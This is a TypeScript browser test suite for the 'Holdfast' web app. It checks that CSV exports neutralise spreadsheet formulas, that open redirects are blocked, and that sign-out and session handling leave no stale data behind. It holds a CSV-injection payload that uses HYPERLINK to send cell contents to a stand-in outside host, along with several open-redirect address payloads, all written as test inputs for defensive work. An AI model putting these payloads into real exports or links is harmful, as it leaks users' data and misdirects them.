import { beforeAll, expect, test } from '@jest/globals'
import { readFileSync } from 'node:fs'
import { ADMIN } from '../world/world.js'
import { openChromium } from './chromium.js'
import { inChromium } from './in-chromium.js'
import { Visitor } from './visitor.js'

const IMPOSE = `mutation ($input: ImposeSuspensionInput!) {
  imposeSuspension(input: $input) { status }
}`

/** Text that a spreadsheet would compute, were it the beginning of a cell. */
const FORMULAE = [
  '=HYPERLINK("https://elsewhere.example/?"&A1)\nand a second line', ' =1+1', '\n=2+2', '＝3+3',
]

inChromium('somebody in whose way others put something', (scene) => {
  let asha: Visitor
  beforeAll(async () => {
    asha = await scene.visitor()
    await asha.signIn('asha.patel')
  })

  test('is handed no formula, however it is hidden in what others wrote', async () => {
    for (const reason of FORMULAE) {
      const clause = { activities: ['UPLOAD'], regions: ['Q31'] }
      const input = { programme: 'SCR', scope: [clause], strength: 'BINDING', reason }
      await scene.site.world.must(IMPOSE, { input }, ADMIN)
    }
    await asha.go('/suspensions')
    const download = asha.page.waitForEvent('download')
    await asha.page.getByRole('button', { name: 'Export CSV' }).click()
    const text = readFileSync(await (await download).path(), 'utf8')
    for (const reason of FORMULAE) {
      const quoted = reason.replaceAll('"', '""')
      expect(text).toContain(`"'${quoted}"`)
    }
  })

  test('gives nothing typed while the effect of something else was worked out', async () => {
    const { page } = asha
    await asha.go('/rollouts/R-9/end')
    await page.getByLabel('Reason').fill('What was shown')
    let goOn = (): void => undefined
    const held = new Promise<void>((resolve) => { goOn = resolve })
    await page.route('**/graphql', async (route) => {
      if (route.request().postDataJSON().variables?.preview === true) await held
      return route.continue()
    })
    const answer = page.waitForResponse((response) =>
      response.request().postDataJSON()?.variables?.preview === true)
    await page.getByRole('button', { name: 'See the effect' }).click()
    await page.getByText('Working out the effect').waitFor()
    await page.getByLabel('Reason').fill('What was not')
    goOn()
    await (await answer).finished()
    await page.unroute('**/graphql')
    await page.getByRole('button', { name: 'See the effect' }).click({ trial: true })
    expect(await page.getByRole('heading', { name: '3 Confirm' }).count()).toBe(0)
  })

  test.each([
    '//elsewhere.example/', '/\\elsewhere.example/', '/.//elsewhere.example/?at=2010-04-10',
  ])(
    'is led to no other site by an address such as %s',
    async (path) => {
      const visitor = await scene.visitor()
      await visitor.signIn('helen.shaw', path)
      expect(visitor.complaints).toEqual([])
      expect(new URL(visitor.page.url()).pathname).toBe('/elsewhere.example/')
      await visitor.close()
    },
  )

  test('is signed out though the issuer does not answer, or knows of no signing out', async () => {
    const visitor = await scene.visitor()
    await visitor.signIn('ben.okafor', '/proposals')
    await visitor.go('/proposals')
    await visitor.page.route('**/.well-known/openid-configuration', (route) =>
      route.abort('connectionrefused'))
    await visitor.page.getByRole('button', { name: 'Sign out' }).click()
    await visitor.page.getByRole('heading', { name: 'Sign in to Holdfast' }).waitFor()
    await visitor.page.getByRole('alert').getByText('sign out there too').waitFor()
    expect(await visitor.faults()).toEqual([])
    await visitor.go('/proposals')
    expect(await visitor.heading()).toBe('Sign in to Holdfast')
    await visitor.close()
  })

  test('is shown no page again that the browser kept of whoever signed out', async () => {
    const keeping = await openChromium({ keepsPages: true })
    const visitor = await Visitor.open(keeping, scene.site.address)
    const { page } = visitor
    await visitor.signIn('asha.patel', '/assurances/A-1')
    await visitor.arrive(/A-1/)
    await visitor.go('/rollouts')
    await page.evaluate(() => sessionStorage.clear())
    await page.context().clearCookies()
    await page.evaluate(() => {
      setTimeout(() => history.back())
    })
    await page.getByRole('heading', { name: 'Sign in to Holdfast' }).waitFor()
    expect(await page.getByText('Record creation is suspended').count()).toBe(0)
    await keeping.close()
  })

  test('reads nothing of what came of another person’s change in the same tab', async () => {
    const visitor = await scene.visitor()
    const { page } = visitor
    await visitor.signIn('asha.patel', '/rollouts/R-17/end')
    await visitor.give('Over and done with', 'End it now')
    const then = await page.evaluate(() => history.length)
    await page.evaluate(() => {
      const tokens = Object.keys(sessionStorage).filter((key) => key.startsWith('oidc.'))
      for (const key of tokens) sessionStorage.removeItem(key)
    })
    await page.context().clearCookies()
    await visitor.signIn('david.lee')
    const now = await page.evaluate(() => history.length)
    // Later, for the page that would answer is left by it.
    await page.evaluate((steps) => void setTimeout(() => history.go(steps)), then - now)
    await visitor.arrive(/R-17/)
    expect(await page.getByText('Done.').count()).toBe(0)
    await visitor.close()
  })
})
